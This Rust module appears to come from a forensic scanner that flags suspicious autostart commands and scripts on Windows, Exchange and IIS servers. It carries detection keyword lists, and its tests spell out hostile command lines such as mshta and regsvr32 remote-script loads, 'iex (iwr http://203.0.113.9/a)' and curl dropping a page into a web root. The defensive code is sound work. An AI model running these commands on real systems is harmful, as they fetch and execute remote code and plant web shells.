//! Checks of autostart commands and scripts: writes pages, runs from unusual locations, hides or downloads what it
//! runs. Names prove nothing (anyone can create `\Microsoft\Windows\...`), so only commands are checked.

pub(super) mod checks;

use super::command_line::{
    COPIERS, UNPACK, UNPACKERS, WRITERS, has_encoded, is_absolute, is_library, is_page, normal, program, tokens_of,
    writes,
};
pub(super) use super::command_line::{is_script, tokens};
use super::plan::{Area, Plan};
use crate::catalogue::ExchangeFolder;
use crate::evidence::{Evidence, Resolver, classify};
use crate::model::drop_folders::{self, Found};
use crate::model::place::kind;
use crate::model::server_path::{extension, fold, same_name};
use crate::model::{CheckInfo, Problem, ProblemKind, Reason, Role, ServerPath};
use std::io::Read;

/// What is read of a script, a task or a list of scripts.
pub(super) const MAX_TEXT: u64 = 2 << 20;
/// Scripts that one names, and those name, that are read.
const MOST_SCRIPTS: usize = 100;
/// Lines of a script that are searched for the one to show.
const MOST_LINES: usize = 2_000;
/// Characters of a command that are shown.
const EXCERPT: usize = 400;

/// The volume whose commands are checked.
pub(super) struct VolumeContext<'g, 'e> {
    pub(super) evidence: &'e dyn Evidence,
    pub(super) resolver: &'g Resolver<'e>,
    /// The letter of the system's volume.
    pub(super) system: char,
    pub(super) drives: &'g [char],
    /// Web folders, folded, each with a backslash at its end.
    web: Vec<String>,
    exchange: String,
}

/// What a check found in a command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct CheckHit {
    pub(super) check: &'static CheckInfo,
    pub(super) score: u8,
    words: &'static str,
}

impl CheckHit {
    /// An unsigned script among signed ones: added, or changed after setup.
    pub(super) fn unsigned() -> Self {
        Self { check: &checks::UNSIGNED_SCRIPT, score: 25, words: "has no signature, unlike the others here" }
    }

    /// A library of PHP that is nowhere near it.
    pub(super) fn extension() -> Self {
        Self { check: &checks::PHP_EXTENSION_PATH, score: 30, words: "an extension outside its own folder" }
    }

    /// Code before every page of PHP, as firewalls of plugins and profilers have it too.
    pub(super) fn prepended() -> Self {
        Self { check: &checks::PHP_AUTO_PREPEND, score: 30, words: "runs a file before or after every page" }
    }
}

/// A command that runs by itself.
pub(super) struct Command<'c> {
    /// What runs it: `scheduled task`, `service W3SVC`.
    pub(super) by: &'c str,
    /// Program and arguments.
    pub(super) line: String,
    /// The folder that it runs in.
    pub(super) folder: &'c str,
}

impl<'g, 'e> VolumeContext<'g, 'e> {
    pub(super) fn new(
        evidence: &'e dyn Evidence,
        resolver: &'g Resolver<'e>,
        root: &ServerPath,
        drives: &'g [char],
        plan: &Plan,
    ) -> Self {
        // Of an installation of Exchange the programs are examined whole as well, and its services are there.
        let is_web = |area: &Area| match area.role {
            Role::Unknown => false,
            Role::Exchange => ExchangeFolder::Web.folders().any(|name| same_name(area.path.name(), name)),
            _ => true,
        };
        let served = plan.areas.iter().filter(|area| area.every_file && is_web(area));
        let mut web: Vec<String> = served.map(|area| format!("{}\\", area.path.folded())).collect();
        web.sort();
        web.dedup();
        let exchange = plan.exchange.first().map_or(String::new(), ServerPath::folded);
        let system = root.drive_letter().unwrap_or('C');
        Self { evidence, resolver, system, drives, web, exchange }
    }

    /// Checks a command; what is found is noted for `file`, which contains the command. Scripts that it runs are examined and checked as well.
    pub(super) fn command(&self, file: &ServerPath, command: &Command<'_>, plan: &mut Plan) {
        let line = self.plain(&command.line);
        let mut hits = self.hits(&line, false);
        let (program, tokens) = self.placed(&line, &self.plain(command.folder));
        hits.extend(self.place(&program, &tokens));
        // Whatever it is called, what an interpreter is given is a script.
        let interpreted = ["wscript", "cscript", "mshta", "python", "php", "perl", "ruby"]
            .iter()
            .any(|name| program.rsplit('\\').next().unwrap_or_default().starts_with(name));
        let is_argument = |at: usize| {
            let before = at.checked_sub(1).and_then(|at| tokens.get(at)).map_or("", String::as_str);
            interpreted || matches!(before, "-file" | "-f" | "\\c" | "\\k")
        };
        let named = tokens
            .iter()
            .enumerate()
            .filter(|(at, token)| is_script(token) || is_argument(*at) && is_absolute(token) && !is_library(token));
        for script in named.map(|(_, token)| token).chain([&program].into_iter().filter(|program| is_script(program))) {
            for script in self.files(script) {
                let title = format!("{} runs it, and it ", command.by);
                self.script(&script, &title, plan);
            }
        }
        note(plan, file, &hits, &format!("{} ", command.by), &command.line);
    }

    /// The program and the words of a command, what it runs by a relative path put into the folder that it runs in: that of the
    /// command, or one that it changes into itself.
    fn placed(&self, line: &str, folder: &str) -> (String, Vec<String>) {
        let mut folder = normal(folder.trim().trim_matches('"')).trim_end_matches('\\').to_owned();
        let program = program(line);
        let own = self.relative(&program, &folder).unwrap_or(program);
        let mut words = Vec::new();
        let mut changes = false;
        for word in tokens(line) {
            if changes && is_absolute(&word) {
                folder = word.trim_end_matches('\\').to_owned();
            }
            // `start /d FOLDER`, `Start-Process -WorkingDirectory FOLDER`.
            changes = matches!(
                word.as_str(),
                "cd" | "chdir" | "pushd" | "set-location" | "push-location" | "sl" | "\\d" | "-workingdirectory"
            );
            let runs = is_script(&word) || is_library(&word);
            words.push(self.relative(&word, &folder).filter(|_| runs).unwrap_or(word));
        }
        (own, words)
    }

    /// A relative path in the folder that it starts from. A program of Windows is found without that folder, and so is an interpreter.
    fn relative(&self, path: &str, folder: &str) -> Option<String> {
        const FOUND: &[&str] = &[
            "cmd",
            "powershell",
            "pwsh",
            "wscript",
            "cscript",
            "mshta",
            "rundll32",
            "regsvr32",
            "robocopy",
            "xcopy",
            "php",
            "php-cgi",
            "python",
            "pythonw",
            "py",
            "node",
            "npm",
            "java",
            "javaw",
            "perl",
            "ruby",
            "dotnet",
            "msbuild",
            "net",
            "sc",
            "schtasks",
            "appcmd",
            "iisreset",
            "certutil",
            "curl",
            "tar",
            "forfiles",
            "msiexec",
            "wmic",
            "reg",
            "git",
        ];
        if folder.is_empty()
            || path.is_empty()
            || is_absolute(path)
            || path.starts_with(['\\', '-', '%', '$', '<', '"'])
        {
            return None;
        }
        let bare = path.trim_end_matches(".exe");
        let system = |end: &str| format!("{}:\\windows\\system32\\{path}{end}", self.system.to_ascii_lowercase());
        if !path.contains('\\')
            && (FOUND.contains(&bare) || ["", ".exe"].iter().any(|end| !self.files(&system(end)).is_empty()))
        {
            return None;
        }
        Some(normal(&format!("{folder}\\{path}")))
    }

    /// Checks a script and those that it names, which are examined as well.
    pub(super) fn script(&self, script: &ServerPath, title: &str, plan: &mut Plan) {
        let mut waiting = vec![script.clone()];
        let mut checked = 0;
        while let Some(script) = waiting.pop() {
            // One that another command named is checked already.
            if checked > 0 && plan.files.contains(&script) || checked > MOST_SCRIPTS {
                continue;
            }
            checked += 1;
            waiting.extend(self.one_script(&script, title, plan));
        }
    }

    /// Checks one script and returns those that it names.
    fn one_script(&self, script: &ServerPath, title: &str, plan: &mut Plan) -> Vec<ServerPath> {
        let Some(text) = read(self.evidence, script, plan) else { return Vec::new() };
        let plain = self.plain(&text);
        let hits = self.hits(&plain, true);
        let named = tokens(&plain).into_iter().filter(|token| is_script(token) && is_absolute(token));
        let named = named.take(MOST_SCRIPTS).flat_map(|token| self.files(&token)).collect();
        let mut lines = text.lines().filter(|_| !hits.is_empty()).take(MOST_LINES);
        let excerpt = lines.find(|line| !self.hits(&self.plain(line), false).is_empty());
        if !plan.files.contains(script) {
            plan.files.push(script.clone());
        }
        note(plan, script, &hits, title, excerpt.or(text.lines().next()).unwrap_or_default());
        named
    }

    /// The web folders, folded.
    pub(super) fn web_folders(&self) -> impl Iterator<Item = &str> {
        self.web.iter().map(String::as_str)
    }

    /// The files of the evidence that a path names.
    pub(super) fn files(&self, path: &str) -> Vec<ServerPath> {
        let path = ServerPath::from_windows(path);
        let path = path.filter(|path| path.drive_letter().is_some_and(|letter| self.drives.contains(&letter)));
        path.map_or(Vec::new(), |path| self.resolver.files(&path))
    }

    /// A text as its reader takes it: variables put in, this machine's own shares as drives, in lower case, no carets.
    pub(super) fn plain(&self, text: &str) -> String {
        let mut text = fold(text).replace('^', "").replace('/', "\\");
        let drive = self.system.to_ascii_lowercase();
        for (name, value) in [
            ("systemroot", format!("{drive}:\\windows")),
            ("windir", format!("{drive}:\\windows")),
            ("systemdrive", format!("{drive}:")),
            ("homedrive", format!("{drive}:")),
            ("programdata", format!("{drive}:\\programdata")),
            ("allusersprofile", format!("{drive}:\\programdata")),
            ("public", format!("{drive}:\\users\\public")),
            ("temp", format!("{drive}:\\windows\\temp")),
            ("tmp", format!("{drive}:\\windows\\temp")),
            ("programfiles", format!("{drive}:\\program files")),
            ("programfiles(x86)", format!("{drive}:\\program files (x86)")),
            ("comspec", format!("{drive}:\\windows\\system32\\cmd.exe")),
            ("exchangeinstallpath", self.exchange.clone()),
        ] {
            text = text.replace(&format!("%{name}%"), &value);
            text = text.replace(&format!("${{env:{name}}}"), &value).replace(&format!("$env:{name}"), &value);
        }
        for prefix in ["\\\\?\\", "\\\\.\\", "\\??\\"] {
            text = text.replace(prefix, "");
        }
        for host in ["localhost", "127.0.0.1", "."] {
            for letter in 'a'..='z' {
                text = text.replace(&format!("\\\\{host}\\{letter}$"), &format!("{letter}:"));
            }
        }
        text.replace("\\systemroot\\", &format!("{drive}:\\windows\\"))
    }

    fn is_web(&self, path: &str) -> bool {
        // Folders of these names alone are backups too: those that are served are known.
        const WEB_FOLDERS: &[&str] =
            &[r"\aspnet_client\", r"\owa\auth\", r"\ecp\auth\", r"\web server extensions\", r"\inetpub\wwwroot\"];
        let path = format!("{}\\", path.trim_end_matches('\\'));
        // A path without a drive is one of the drive that it is used on.
        let rooted =
            |folder: &String| path.starts_with('\\') && folder.get(2..).is_some_and(|rest| path.starts_with(rest));
        if self.web.iter().any(|folder| path.starts_with(folder) || rooted(folder))
            || WEB_FOLDERS.iter().any(|folder| path.contains(folder))
        {
            return true;
        }
        // Short names are those of folders that exist.
        let longest = path.match_indices('\\').map(|(at, _)| &path[..at]).filter(|part| part.contains('~')).take(12);
        let is_provided = |path: &ServerPath| path.drive_letter().is_some_and(|letter| self.drives.contains(&letter));
        longest.filter_map(ServerPath::from_windows).filter(is_provided).any(|part| {
            let real = self.resolver.folders(&part).into_iter().map(|folder| format!("{}\\", folder.folded()));
            real.into_iter().any(|real| self.web.iter().any(|folder| real.starts_with(folder)))
        })
    }

    /// What a text, folded and with variables expanded, says. Of a script all lines count together.
    fn hits(&self, text: &str, is_script: bool) -> Vec<CheckHit> {
        let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
        // Of a script, two things on one line belong together; in a long one that does a lot they may be unrelated.
        let together = |one: &[&str], other: &[&str]| {
            let of = |line: &str, words: &[&str]| words.iter().any(|word| line.contains(word));
            text.lines().any(|line| of(line, one) && of(line, other))
        };
        let mut hits = Vec::new();
        let mut add = |check, score, words| hits.push(CheckHit { check, score, words });
        if has(&["powershell", "pwsh"]) && has_encoded(text) {
            add(&checks::ENCODED_POWERSHELL, 60, "runs an encoded command");
        }
        // The signature that Exchange's own scripts end with is not checked here, so it does not clear what stands on one line.
        let signed = is_script && has(&["# sig # begin signature block"]);
        const DECODES: &[&str] = &["frombase64string", "-decode", "\\decode", "fromhexstring", "-decodehex"];
        const RUNS: &[&str] =
            &["iex ", "iex(", "|iex", "| iex", "invoke-expression", "assembly]::load", "scriptblock]::create"];
        const STORES: &[&str] = &["writeallbytes", "writealltext", "set-content", "out-file"];
        const FETCHES: &[&str] = &[
            "downloadstring",
            "downloaddata",
            "invoke-webrequest",
            "invoke-restmethod",
            "iwr ",
            "irm ",
            "net.webclient",
            "httpclient",
            "xmlhttp",
        ];
        if together(FETCHES, RUNS) {
            add(&checks::DOWNLOADS_AND_EXECUTES, 75, "executes what it downloads");
        } else if has(FETCHES) && has(RUNS) && !signed {
            add(&checks::DOWNLOADS_AND_EXECUTES, 50, "downloads something and executes text");
        }
        if together(DECODES, RUNS) || together(DECODES, STORES) {
            add(&checks::DECODES_PAYLOAD, 65, "decodes what it executes or writes");
        } else if has(DECODES) && (has(RUNS) || has(STORES)) && !signed {
            add(&checks::DECODES_PAYLOAD, 50, "decodes something, and executes or writes text");
        }
        const ELSEWHERE: &[&str] = &["http:", "https:", "javascript:", "vbscript:", "scrobj"];
        if together(&["mshta", "rundll32", "regsvr32"], ELSEWHERE) {
            add(&checks::LOLBIN_REMOTE_SCRIPT, 75, "runs a remote script with a Windows executable");
        }
        if together(&["certutil"], &["urlcache", "verifyctl", "decode"])
            || together(&["bitsadmin"], &["\\transfer", "\\addfile"])
            || !signed && has(&["downloadfile(", "start-bitstransfer"])
        {
            add(&checks::LOLBIN_DOWNLOAD, 55, "downloads or decodes a file with a Windows tool");
        }
        if has(&["<%@", "<%=", "runat=\"server\"", "runat=server", "<?php", "request.item[", "eval(request"]) {
            add(&checks::CONTAINS_SERVER_CODE, 75, "contains server code");
        }
        let lines: Vec<&str> = text.split(['\n', '\r']).collect();
        // Exchange's own scripts handle its pages and configuration by variables; only an intruder writes whole paths.
        let page = |token: &String| is_page(token) && (!signed || is_absolute(token) && self.is_web(token));
        let writes_page = lines.iter().any(|line| writes(line) && tokens(line).iter().any(page));
        let page_there = || tokens(text).iter().any(|token| is_page(token) && self.is_web(token));
        let by_parts = is_script && !signed && has(WRITERS) && page_there();
        if writes_page || by_parts {
            add(&checks::WRITES_SERVER_CODE, 75, "writes server code");
        } else if !signed && lines.iter().any(|line| self.writes_to_web(line)) {
            add(&checks::WRITES_TO_WEB_FOLDER, 60, "writes to a web folder");
        }
        hits
    }

    /// Whether a line copies, or writes, into a web folder; one that copies from there is a backup.
    fn writes_to_web(&self, line: &str) -> bool {
        let tokens = tokens(line);
        let web = |token: &String| self.is_web(token);
        let name = |token: &String| token.rsplit('\\').next().unwrap_or_default().trim_end_matches(".exe").to_owned();
        let unpacks = tokens.iter().any(|token| UNPACKERS.contains(&name(token).as_str()));
        if unpacks && tokens.iter().any(|token| UNPACK.contains(&token.as_str()) || name(token) == "unzip") {
            return tokens.iter().any(web);
        }
        let verb = tokens.iter().position(|token| {
            let name = token.rsplit('\\').next().unwrap_or_default().trim_end_matches(".exe");
            COPIERS.contains(&name)
        });
        if let Some(verb) = verb {
            let paths: Vec<&String> = tokens[verb + 1..].iter().filter(|token| is_absolute(token)).collect();
            let named = tokens.iter().position(|token| token == "-destination" || token == "-outfile");
            let target = named.and_then(|at| tokens.get(at + 1)).or(paths.get(1).copied());
            return target.is_some_and(web) || tokens[verb].starts_with("mklink") && paths.into_iter().any(web);
        }
        let redirected = line.rsplit_once('>').is_some_and(|(_, rest)| tokens_of(rest).first().is_some_and(web));
        redirected || WRITERS.iter().any(|word| line.contains(word)) && tokens.iter().any(web)
    }

    /// Checks where the program, and a script among its arguments, is.
    pub(super) fn place(&self, program: &str, tokens: &[String]) -> Vec<CheckHit> {
        let mut worst: Option<CheckHit> = None;
        for (path, is_program) in [(program, true)]
            .into_iter()
            .chain(tokens.iter().filter(|token| is_script(token) || is_library(token)).map(|t| (t.as_str(), false)))
        {
            // A switch of a command shell is no path.
            if !(is_absolute(path) || path.starts_with('\\') && path.len() > 3) {
                continue;
            }
            let hit = if path.starts_with("\\\\") {
                Some(CheckHit {
                    check: &checks::RUNS_FROM_REMOTE_HOST,
                    score: 30,
                    words: "runs a file on a remote host",
                })
            } else if is_exchange_service(path) {
                None
            } else if self.is_web(path) {
                // Pages of PHP that a timer runs are ordinary.
                let php = !is_program && kind::is_php(&extension(path));
                Some(CheckHit {
                    check: &checks::RUNS_FROM_WEB_FOLDER,
                    score: if php { 25 } else { 60 },
                    words: "runs an executable from a web folder",
                })
            } else {
                drop_folder(path).map(|score| CheckHit {
                    check: &checks::RUNS_FROM_DROP_FOLDER,
                    score,
                    words: "runs an executable from a drop folder",
                })
            };
            worst = hit.into_iter().chain(worst).max_by_key(|hit| hit.score);
        }
        worst.into_iter().collect()
    }
}

/// Whether a program is one of Exchange's services that are in its web folders. They are examined there as every file is.
fn is_exchange_service(path: &str) -> bool {
    const PROGRAMS: &[&str] = &[
        r"\frontend\popimap\microsoft.exchange.pop3service.exe",
        r"\frontend\popimap\microsoft.exchange.imap4service.exe",
        r"\clientaccess\popimap\microsoft.exchange.pop3service.exe",
        r"\clientaccess\popimap\microsoft.exchange.imap4service.exe",
        r"\frontend\callrouter\microsoft.exchange.um.callrouter.exe",
    ];
    PROGRAMS.iter().any(|program| path.ends_with(program))
}

/// How sure a program or script in a folder of this folded path is where it should not be.
fn drop_folder(path: &str) -> Option<u8> {
    let below = path.get(1..3).filter(|colon| *colon == r":\").and_then(|_| path.get(3..))?;
    let found = if is_script(path) { drop_folders::find(below, Found::Script) } else { None };
    drop_folders::find(below, Found::Program).or(found).map(|(_, score)| score)
}

/// Notes what speaks against a command of a file, which is examined then.
pub(super) fn note(plan: &mut Plan, file: &ServerPath, hits: &[CheckHit], title: &str, excerpt: &str) {
    for hit in hits {
        let excerpt: String = excerpt.trim().chars().take(EXCERPT).collect();
        let locations = vec![crate::model::Location::without_place("stored", excerpt)];
        let reason = Reason::new(hit.check, hit.score, format!("{title}{}", hit.words), locations);
        plan.note(file, reason);
    }
}

/// A text file of the evidence: UTF-8 or UTF-16. What cannot be read, or is larger, is a problem.
pub(super) fn read(evidence: &dyn Evidence, file: &ServerPath, plan: &mut Plan) -> Option<String> {
    let mut bytes = Vec::new();
    let read = evidence.open(file).and_then(|content| content.reader.take(MAX_TEXT + 1).read_to_end(&mut bytes));
    if let Err(error) = read {
        plan.problems.push(Problem::at(classify(&error), file, error.to_string()));
    }
    if bytes.len() as u64 > MAX_TEXT {
        let message = format!("autostart entry: only the first {} MiB were read", MAX_TEXT >> 20);
        plan.problems.push(Problem::at(ProblemKind::PartiallyExamined, file, message));
    }
    let zeros = bytes.iter().take(400).skip(1).step_by(2).filter(|byte| **byte == 0).count();
    let wide = !bytes.starts_with(b"\xFF\xFE") && !bytes.starts_with(b"\xFE\xFF") && zeros > 20;
    let encoding = if wide { encoding_rs::UTF_16LE } else { encoding_rs::UTF_8 };
    (!bytes.is_empty()).then(|| encoding.decode(&bytes).0.into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::Memory;

    fn hits(line: &str, is_script: bool) -> Vec<&'static str> {
        let evidence = Memory::new().folder(r"C:\inetpub\wwwroot");
        let resolver = Resolver::new(&evidence);
        let mut plan = Plan::default();
        let folder = ServerPath::from_windows(r"C:\sites\a").expect("absolute");
        plan.add_area(folder.clone(), Role::WebRoot, &folder, true);
        for folder in [r"C:\Ex\bin", r"C:\Ex\FrontEnd"] {
            let folder = ServerPath::from_windows(folder).expect("absolute");
            plan.add_area(folder.clone(), Role::Exchange, &folder, true);
        }
        let volume = VolumeContext::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
        let line = volume.plain(line);
        let mut hits: Vec<&str> = volume.hits(&line, is_script).iter().map(|hit| hit.check.name()).collect();
        if !is_script {
            let (program, tokens) = volume.placed(&line, "");
            hits.extend(volume.place(&program, &tokens).iter().map(|hit| hit.check.name()));
        }
        hits
    }

    #[test]
    fn what_an_intruder_lets_run_is_seen_and_what_others_do_is_not() {
        for (line, expected) in [
            (r"cmd /c copy C:\a.txt C:\sites\a\x.aspx", &["writes_server_code"][..]),
            (r"cmd /c echo x > C:\sites\a\web.config", &["writes_to_web_folder"]),
            (r"xcopy C:\data\* C:\sites\a\img /y", &["writes_to_web_folder"]),
            (r"xcopy C:\sites\a\* D:\backup\ /y", &[]),
            (r"cmd /c dir /s C:\sites\a\*.aspx > C:\lists\all.txt", &[]),
            (r"curl -o C:\sites\a\x.ashx http://203.0.113.9/x", &["writes_server_code"]),
            (r"curl http://203.0.113.9/x.aspx", &[]),
            (r"certutil -decode C:\a.txt C:\sites\a\b", &["lolbin_download", "writes_to_web_folder"]),
            (r"mklink /d C:\sites\a\logs C:\logs", &["writes_to_web_folder"]),
            (r#""C:\sites\a\bin\x.exe" -k"#, &["runs_from_web_folder"]),
            (r"C:\Windows\Temp\x.exe", &["runs_from_drop_folder"]),
            (r"C:\ProgramData\x.exe", &["runs_from_drop_folder"]),
            (r"C:\ProgramData\Vendor\bin\x.exe", &[]),
            (r"C:\Users\a\AppData\Roaming\x.vbs", &["runs_from_drop_folder"]),
            (r"rundll32.exe C:\Users\Public\x.dll,Start", &["runs_from_drop_folder"]),
            (r"\\203.0.113.9\share\x.exe", &["runs_from_remote_host"]),
            ("powershell -ec SQBuAGUAcgB0AEkAbgBlAHIAdAA=", &["encoded_powershell"]),
            ("powershell -ExecutionPolicy Bypass -Encoding UTF8aaaaaaaaaaaaaaaaaaa", &[]),
            ("mshta http://203.0.113.9/a.hta", &["lolbin_remote_script"]),
            ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", &["lolbin_remote_script"]),
            (r"C:\Windows\System32\svchost.exe -k netsvcs", &[]),
            (r"C:\Ex\bin\MSExchangeMailboxReplication.exe", &[]),
            (r"C:\Ex\FrontEnd\HttpProxy\owa\q.exe", &["runs_from_web_folder"]),
            (r"C:/sites/./a/b/../q.exe", &["runs_from_web_folder"]),
            (r"C:\\sites\\a. \\q.exe::$DATA -k", &["runs_from_web_folder"]),
            (r"\sites\a\q.exe", &["runs_from_web_folder"]),
            (r"cmd /c cd /d C:\sites\a && q.bat", &["runs_from_web_folder"]),
            (r"cmd /c cd /d C:\sites\a && php artisan schedule:run", &[]),
            (r#"cmd /b /c start powershell -c "sc C:\sites\a\q.aspx 1""#, &["writes_server_code"]),
            ("sc.exe config w3svc start= auto", &[]),
            (r"7z x C:\data\a.7z -oC:\sites\a", &["writes_to_web_folder"]),
            (r"7z a D:\backup\a.7z C:\sites\a", &[]),
        ] {
            assert_eq!(hits(line, false), expected, "{line}");
        }
        assert_eq!(
            hits("$c = New-Object Net.WebClient\nInvoke-Expression $x\n# SIG # Begin signature block", true),
            [""; 0]
        );
        assert_eq!(
            hits("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true),
            ["downloads_and_executes"]
        );
    }

    proptest::proptest! {
        #[test]
        fn no_text_makes_it_stop(text in proptest::prelude::any::<String>(), piece in "[a-z:\\\\\"' >=/.%-]{0,60}") {
            hits(&text, true);
            hits(&piece, false);
            hits(&format!("copy {piece} {text}"), false);
        }
    }
}
